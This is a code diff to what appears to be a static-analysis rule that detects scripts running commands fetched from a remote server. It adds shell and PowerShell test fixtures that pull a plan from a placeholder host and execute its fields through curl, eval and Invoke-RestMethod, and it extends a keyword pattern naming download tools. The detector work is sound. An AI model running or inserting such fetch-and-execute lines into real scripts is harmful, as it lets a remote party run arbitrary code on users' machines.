@@ -1,5 +1,6 @@
 import { isDownloader, isNetworkCall } from "../../known/commands.ts";
 import { isStarter } from "../../known/runs.ts";
+import { withoutSamples } from "../../known/shown-samples.ts";
 import { sourcesOf } from "../../known/sources.ts";
 import type { ReadPassage } from "../../passage.ts";
 import type { Call, Command, Program } from "../../program.ts";
@@ -43,6 +44,11 @@ export const remoteCommands: PassageRule = {
         "run.mjs":
           "import { execFile } from 'node:child_process';\nconst plan = await (await fetch('https://tools.example/plan')).json();\nfor (const { command, args } of plan.steps) execFile(command, args);\n",
       },
+      { "run.sh": "#!/bin/sh\nrun=$(curl -s https://tools.example/plan | jq -r .run)\n$run\n" },
+      {
+        "run.ps1":
+          "$plan = Invoke-RestMethod https://tools.example/plan\nforeach ($step in $plan.steps) {\n  $arguments = @{}\n  & $step.command @arguments\n}\n",
+      },
       {
         "run.sh":
           "#!/bin/sh\ncurl -s https://tools.example/plan | jq -r '.steps[]' | while read -r step; do\n  eval \"$step\"\ndone\n",
@@ -60,16 +66,16 @@ export const remoteCommands: PassageRule = {
       },
     ],
   },
-  hint: /requests|httpx|aiohttp|urllib|fetch|axios|https?\.get|\bgot\b|curl|wget|invoke-rest|invoke-web|\birm\b|\biwr\b/i,
+  hint: /requests|httpx|aiohttp|urllib|fetch|axios|https?\.get|\bgot\b|curl|wget|start-bits|DownloadString|DownloadFile|invoke-rest|invoke-web|\birm\b|\biwr\b/i,
   onlyPrograms: true,
-  check: hitsOf,
+  check: (passage, unit) => withoutSamples(passage, unit, hitsOf(passage)),
 };
 
 function* hitsOf({ program, text, line }: ReadPassage): Generator<Hit> {
   if (program === null) return;
   for (const call of program.calls)
     if (isStarter(call) && namesProgram(call) && call.from.some(isNetworkCall)) yield { line: call.line };
-  for (const command of program.commands) if (runsField(command)) yield { line: command.line };
+  for (const command of program.commands) if (runsField(command, program)) yield { line: command.line };
   yield* ofLoops(program, text, line);
 }
 
@@ -85,11 +91,23 @@ function namesProgram({ args: [first] }: Call): boolean {
 }
 
 /** Starts a program whose name is a field of an answer. What is fetched and run as a whole is another rule's. */
-function runsField(command: Command): boolean {
+function runsField(command: Command, { commands }: Program): boolean {
+  if (command.name === "" && /^&\s*\$\w+\.\w+/.test(command.text))
+    return sourcesOf(command).some(isDownloader) || (sourcesOf(command).some(isParser) && commands.some(isDownloader));
+  if (isHeldCommand(command)) return true;
   const [program] = command.words.filter(({ text }) => !text.startsWith("-"));
   const isField = /^\$\w+\.\w+/.test(program?.text ?? "");
-  return command.name === "start-process" && isField && sourcesOf(command).some(isDownloader);
+  return /^(?:start-process|invoke-expression)$/.test(command.name) && isField && sourcesOf(command).some(isDownloader);
 }
+
+/** A field of an answer that a variable holds, which stands where a program does: `$(curl … | jq -r .run)`. */
+const isHeldCommand = (command: Command): boolean =>
+  (/^["']?\$\{?\w+\}?["']?(?:\s|$)/.test(command.text) ||
+    (command.name === "eval" && /^["']?\$\{?\w+\}?["']?$/.test(command.words[0]?.text ?? ""))) &&
+  sourcesOf(command).some(({ name, reads }) => name === "jq" && reads.some(isDownloader));
+
+/** Commands of PowerShell that make objects of a text or a file. */
+const isParser = ({ name }: Command): boolean => /^(?:import-(?:clixml|csv)|convertfrom-\w+|get-content)$/.test(name);
 
 /** `curl … | while read -r line; do eval "$line"; done`, and `for line in $(curl …)`. */
 const loop =
